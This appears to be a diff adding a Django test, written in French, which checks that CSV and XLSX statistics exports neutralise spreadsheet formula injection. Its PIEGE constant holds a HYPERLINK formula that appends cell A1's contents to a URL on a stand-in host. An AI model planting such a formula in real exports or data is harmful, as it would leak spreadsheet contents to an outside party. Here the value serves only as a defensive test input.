@@ -146,3 +146,30 @@ def test_export_csv_et_xlsx(client, monde):
     assert sum(row[3] for row in canal) == t.nombre
 
     assert client.get(reverse("statistiques:structure_export", args=[monde.a1.pk, "pdf"])).status_code == 404
+
+
+PIEGE = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
+
+
+def test_export_une_structure_renommee_en_formule_reste_du_texte(client, monde):
+    monde.a1.nom = PIEGE
+    monde.a1.save()
+    connecter(client, monde.prefecture_a)
+    parametres = {"periode": "dates", "debut": "2026-01-01", "fin": "2026-02-28"}
+    for url in (
+        reverse("statistiques:structure_export", args=[monde.a1.pk, "csv"]),
+        reverse("statistiques:departement_export", args=[monde.dep_a.code, "csv"]),
+    ):
+        contenu = client.get(url, parametres).content.decode("utf-8-sig")
+        cellules = [c for ligne in csv.reader(io.StringIO(contenu), delimiter=";") for c in ligne]
+        pieges = [c for c in cellules if "HYPERLINK" in c]
+        assert pieges and all(c == "'" + PIEGE for c in pieges)
+    for url in (
+        reverse("statistiques:structure_export", args=[monde.a1.pk, "xlsx"]),
+        reverse("statistiques:departement_export", args=[monde.dep_a.code, "xlsx"]),
+    ):
+        classeur = load_workbook(io.BytesIO(client.get(url, parametres).content))
+        cellules = [c for feuille in classeur for ligne in feuille.iter_rows() for c in ligne]
+        assert not [c for c in cellules if c.data_type == "f"]  # aucune formule
+        pieges = [c.value for c in cellules if "HYPERLINK" in str(c.value)]
+        assert pieges and all(v == "'" + PIEGE for v in pieges)
